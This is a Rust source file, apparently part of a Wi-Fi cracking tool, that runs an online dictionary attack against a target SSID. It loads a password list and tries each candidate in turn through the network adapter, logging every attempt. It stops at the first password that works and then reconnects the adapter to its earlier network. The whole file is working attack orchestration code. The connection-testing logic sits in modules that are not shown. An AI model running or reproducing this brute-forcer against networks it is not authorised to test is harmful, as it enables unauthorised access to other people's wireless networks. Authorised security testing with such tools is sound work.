/*!
 * Online dictionary attack orchestration
 *
 * Attempts are strictly sequential: the adapter can hold one association
 * at a time. The orchestrator owns the adapter for the whole run,
 * remembers what it was connected to beforehand, and puts it back once a
 * key is found.
 */

use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use indicatif::ProgressBar;
use serde::{Serialize, Serializer};

use crate::core::dictionary::DictionarySpec;
use crate::core::status::{self, AdapterStatus, LocaleMarkers, DEFAULT_MARKERS};
use crate::core::verify::{settle, AttemptOutcome, CredentialVerifier, SettleIntervals};
use crate::error::Result;
use crate::platform::NetworkControl;

/// Bruteforce configuration
#[derive(Debug, Clone)]
pub struct BruteforceConfig {
    pub settle: SettleIntervals,
    pub markers: LocaleMarkers,
    /// Directory the profile payloads are staged in
    pub staging_dir: PathBuf,
}

impl Default for BruteforceConfig {
    fn default() -> Self {
        Self {
            settle: SettleIntervals::default(),
            markers: DEFAULT_MARKERS,
            staging_dir: std::env::temp_dir(),
        }
    }
}

/// One tried candidate
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct AttemptRecord {
    pub password: String,
    pub outcome: AttemptOutcome,
}

/// How the run ended
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum Termination {
    /// A candidate was confirmed
    Found { password: String },
    /// Every candidate was tried
    Exhausted,
    /// Stopped on request before the dictionary ran out
    Interrupted,
}

/// Bruteforce result
#[derive(Debug, Clone, Serialize)]
pub struct BruteForceResult {
    pub ssid: String,
    pub tested_count: usize,
    pub termination: Termination,
    #[serde(rename = "elapsed_secs", serialize_with = "as_secs_f64")]
    pub elapsed: Duration,
    /// Every attempt in dictionary order
    pub attempts: Vec<AttemptRecord>,
    /// Whether the adapter was put back after a success; `None` when no
    /// password was found and the adapter was left alone
    pub restored: Option<bool>,
}

impl BruteForceResult {
    pub fn success(&self) -> bool {
        matches!(self.termination, Termination::Found { .. })
    }

    /// Discovered password, if any
    pub fn password(&self) -> Option<&str> {
        match &self.termination {
            Termination::Found { password } => Some(password),
            _ => None,
        }
    }

    /// Candidates that did not unlock the network, in attempt order
    pub fn failed_attempts(&self) -> impl Iterator<Item = &str> {
        self.attempts
            .iter()
            .filter(|a| !a.outcome.is_success())
            .map(|a| a.password.as_str())
    }
}

fn as_secs_f64<S: Serializer>(d: &Duration, s: S) -> std::result::Result<S::Ok, S::Error> {
    s.serialize_f64(d.as_secs_f64())
}

/// Online bruteforcer for one target SSID at a time
pub struct BruteForcer<'a, C: NetworkControl + ?Sized> {
    control: &'a C,
    config: BruteforceConfig,
    progress: ProgressBar,
    stop: Arc<AtomicBool>,
}

impl<'a, C: NetworkControl + ?Sized> BruteForcer<'a, C> {
    pub fn new(control: &'a C, config: BruteforceConfig) -> Self {
        Self {
            control,
            config,
            progress: ProgressBar::hidden(),
            stop: Arc::new(AtomicBool::new(false)),
        }
    }

    /// Report progress on `progress` (length is set when the run starts)
    pub fn with_progress(mut self, progress: ProgressBar) -> Self {
        self.progress = progress;
        self
    }

    /// Flag checked between attempts; setting it ends the run early
    pub fn with_stop_flag(mut self, stop: Arc<AtomicBool>) -> Self {
        self.stop = stop;
        self
    }

    /// Run the dictionary against `ssid`
    ///
    /// Only a dictionary load failure is an error. Everything that goes
    /// wrong during an attempt is recorded on that attempt.
    pub fn run(&self, ssid: &str, dictionary: &DictionarySpec) -> Result<BruteForceResult> {
        let start_time = Instant::now();

        let prior = self.snapshot();
        match prior.original_network() {
            Some(network) => tracing::info!(network, "currently connected"),
            None => tracing::info!("not connected to any network"),
        }

        let passwords = dictionary.load()?;
        tracing::info!(ssid, candidates = passwords.len(), "starting dictionary run");

        let verifier = CredentialVerifier::new(self.control)
            .with_settle(self.config.settle)
            .with_markers(self.config.markers)
            .with_staging_dir(&self.config.staging_dir);

        self.progress.set_length(passwords.len() as u64);

        let mut attempts = Vec::with_capacity(passwords.len());
        let mut termination = Termination::Exhausted;

        for password in passwords {
            if self.stop.load(Ordering::Acquire) {
                tracing::info!(tried = attempts.len(), "stop requested");
                termination = Termination::Interrupted;
                break;
            }

            self.progress.set_message(password.clone());
            let outcome = verifier.verify(ssid, &password);
            self.progress.inc(1);
            tracing::debug!(ssid, attempt = attempts.len() + 1, %outcome, "attempt finished");

            let found = outcome.is_success();
            attempts.push(AttemptRecord {
                password: password.clone(),
                outcome,
            });

            if found {
                termination = Termination::Found { password };
                break;
            }
        }

        self.progress.finish_and_clear();

        let restored = matches!(termination, Termination::Found { .. }).then(|| self.restore(&prior));

        Ok(BruteForceResult {
            ssid: ssid.to_string(),
            tested_count: attempts.len(),
            termination,
            elapsed: start_time.elapsed(),
            attempts,
            restored,
        })
    }

    fn snapshot(&self) -> AdapterStatus {
        match self.control.query_interface_status() {
            Ok(text) => AdapterStatus::parse(&text, &self.config.markers),
            Err(e) => {
                tracing::warn!(error = %e, "could not read adapter status, assuming disconnected");
                AdapterStatus::default()
            }
        }
    }

    /// Put the adapter back the way it was; failures are only logged
    fn restore(&self, prior: &AdapterStatus) -> bool {
        match prior.original_network() {
            Some(network) => {
                settle(self.config.settle.restore);
                match self.control.connect(network) {
                    Ok(output) if status::connect_accepted(&output, &self.config.markers) => {
                        tracing::info!(network, "restored original connection");
                        true
                    }
                    Ok(output) => {
                        tracing::warn!(
                            network,
                            output = output.trim(),
                            "host did not accept the reconnect to the original network"
                        );
                        false
                    }
                    Err(e) => {
                        tracing::warn!(network, error = %e, "failed to restore original connection");
                        false
                    }
                }
            }
            None => match self.control.disconnect() {
                Ok(()) => {
                    tracing::info!("disconnected, no prior connection to restore");
                    true
                }
                Err(e) => {
                    tracing::warn!(error = %e, "failed to disconnect after success");
                    false
                }
            },
        }
    }
}
